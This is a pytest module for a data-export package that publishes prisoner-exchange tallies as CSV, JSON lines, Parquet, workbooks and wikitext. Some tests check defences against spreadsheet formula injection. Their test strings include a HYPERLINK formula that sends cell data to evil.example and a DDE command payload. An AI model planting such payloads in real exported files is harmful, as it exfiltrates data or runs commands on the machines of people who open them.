"""Data files say the same in every form, describe themselves, and give no private name away."""

import csv
import json
import re
from dataclasses import replace
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from headcount.publish.books import Books
from headcount.publish.describe import describe_csvw, describe_package
from headcount.publish.export import make_files
from headcount.publish.files import (
    keep_from_running,
    read_kept,
    write_csv,
    write_jsonl,
    write_parquet,
    write_workbook,
)
from headcount.publish.tables import BY_NAME, TABLES
from headcount.publish.wikitext import write_wikitext
from headcount.records.claim import Channel
from tests.web.records import make_store


@pytest.fixture(scope="module")
def books() -> Books:
    store = make_store()
    return Books(holdings=store.holdings, claims=store.all_claims, reports=store.all_reports)


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_csv_and_json_lines_say_the_same(books: Books, table: object) -> None:
    rows = list(csv.DictReader(StringIO(write_csv(table, books).decode())))
    lines = [json.loads(line) for line in write_jsonl(table, books).decode().splitlines()]
    assert len(rows) == len(lines) > 0
    assert [row[table.columns[0].name] for row in rows] == [line[table.columns[0].name] for line in lines]


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.name)
def test_the_first_column_is_a_key(books: Books, table: object) -> None:
    keys = [row[0] for row in table.rows(books)]
    assert len(set(keys)) == len(keys)


def test_an_unknown_figure_is_empty_and_not_zero(books: Books) -> None:
    rows = {row["handover"]: row for row in csv.DictReader(StringIO(write_csv(BY_NAME["handovers"], books).decode()))}
    assert rows["2022-05-u"]["best"] == ""


def test_parquet_reads_back_with_types(books: Books) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="needs pyarrow")
    for table in TABLES:
        read = parquet.read_table(BytesIO(write_parquet(table, books)))
        assert read.num_rows == sum(1 for _ in table.rows(books))
    handovers = parquet.read_table(BytesIO(write_parquet(BY_NAME["handovers"], books)))
    assert str(handovers.schema.field("date").type) == "date32[day]"


def test_a_workbook_has_a_sheet_for_each_table(books: Books) -> None:
    openpyxl = pytest.importorskip("openpyxl", reason="needs openpyxl")
    book = openpyxl.load_workbook(BytesIO(write_workbook(books)))
    assert book.sheetnames == ["columns", *(table.name for table in TABLES)]


def test_the_package_names_every_column_and_the_files_content(books: Books) -> None:
    files, _ = make_files(books)
    package = json.loads(files["datapackage.json"])
    for resource in package["resources"]:
        header = files[resource["path"]].decode().splitlines()[0].split(",")
        assert [field["name"] for field in resource["schema"]["fields"]] == header
        assert resource["bytes"] == len(files[resource["path"]])
    assert package == json.loads(json.dumps(describe_package(files)))
    assert len(describe_csvw()["tables"]) == len(TABLES)


def test_no_private_name_leaves_in_a_file(books: Books) -> None:
    files, _ = make_files(books)
    assert not any(b"Petrenko" in content for name, content in files.items() if not name.endswith(("parquet", "xlsx")))


FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1,"more")',
    "＝1+1", "＋1", "－1", "＠SUM(1)", "25;=1+1", "a;+1", "a;@SUM(1)", "a\n=1", "a\t=1", "'=1", "a;'=1",
)  # fmt: skip
"""What a spreadsheet runs: at a cell's beginning, or where it parts cells at a semicolon, a tab or a line's end."""
HARMLESS = ("175:175", "1,358 came home", "a - b", "UKR;RUS", "'quoted'", "a=b", "Kyiv; - and Moscow", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_is_kept_from_it(text: str) -> None:
    cell = keep_from_running(text)
    assert not re.search(r"(^|[;\t\n\r])[=+\-@＝＋－＠\t\r]", cell)
    assert cell != text
    assert read_kept(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert keep_from_running(text) == text == read_kept(text)


@given(st.text(alphabet="'=+-@\t\r\n;＝a 1", max_size=12))
def test_what_a_text_was_can_be_read_back(text: str) -> None:
    assert read_kept(keep_from_running(text)) == text


def poisoned(books: Books, text: str) -> Books:
    """The books with one report whose every published text is this."""
    report = next(iter(books.reports.values()))
    return replace(books, reports={**books.reports, report.id: replace(report, headline=text, outlet=text)})


@pytest.mark.parametrize("text", ["=1+1", "@SUM(1)", "25;=cmd|' /C calc'!A0"])
def test_no_file_holds_a_formula_and_every_form_gives_the_text_back(books: Books, text: str) -> None:
    table, poison = BY_NAME["reports"], poisoned(books, text)
    rows = list(csv.reader(StringIO(write_csv(table, poison).decode())))
    cells = [cell for row in rows for part in row for cell in part.split(";")]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert any(read_kept(row["outlet"]) == text for row in csv.DictReader(StringIO(write_csv(table, poison).decode())))
    assert any(json.loads(line)["outlet"] == text for line in write_jsonl(table, poison).decode().splitlines())


def test_a_workbook_holds_texts_as_texts(books: Books) -> None:
    openpyxl = pytest.importorskip("openpyxl", reason="needs openpyxl")
    book = openpyxl.load_workbook(BytesIO(write_workbook(poisoned(books, "=1+1"))))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    held = [cell for cell in cells if cell.value == "=1+1"]
    assert held
    assert all(cell.quotePrefix for cell in held)


def test_wikitext_sums_its_own_rows_and_cites_them(books: Books) -> None:
    text = write_wikitext(books, 2025)
    assert "! Sum !! 618 !! 596" in text
    assert "{{cite web |url=https://daily.example/4306" in text
    assert "{{dts|2025|3|19}}" in text


def test_wikitext_has_a_table_for_each_conflict_and_marks_who_came_outside_an_exchange(books: Books) -> None:
    held = books.holdings.exchanges
    outside = replace(
        held[0],
        id="aze-arm",
        conflict="armenia-azerbaijan",
        handovers=tuple(
            replace(one, returned_to="ARM", channel=Channel.OUTSIDE_EXCHANGE, best=4, low=4, high=4)
            for one in held[0].handovers[:1]
        ),
    )
    text = write_wikitext(replace(books, holdings=replace(books.holdings, exchanges=(*held, outside))))
    first, second = text.split("\n{|")
    assert "|+ Prisoner exchanges, Russia–Ukraine" in first
    assert "Armenia" not in first
    assert "! Date !! To Armenia !! Note !! Source" in second
    assert "|| 4 || outside an exchange ||" in second
    assert "! Sum !! 4 !! Sum of the rows above" in second


def test_wikitext_makes_up_no_title_and_breaks_no_address(books: Books) -> None:
    reports = {
        key: replace(report, headline=None, outlet="daily.example", url="https://daily.example/a?b={c}|d]")
        for key, report in books.reports.items()
    }
    text = write_wikitext(replace(books, reports=reports))
    assert "<ref>[https://daily.example/a?b=%7Bc%7D%7Cd%5D daily.example]</ref>" in text
    assert "cite web" not in text
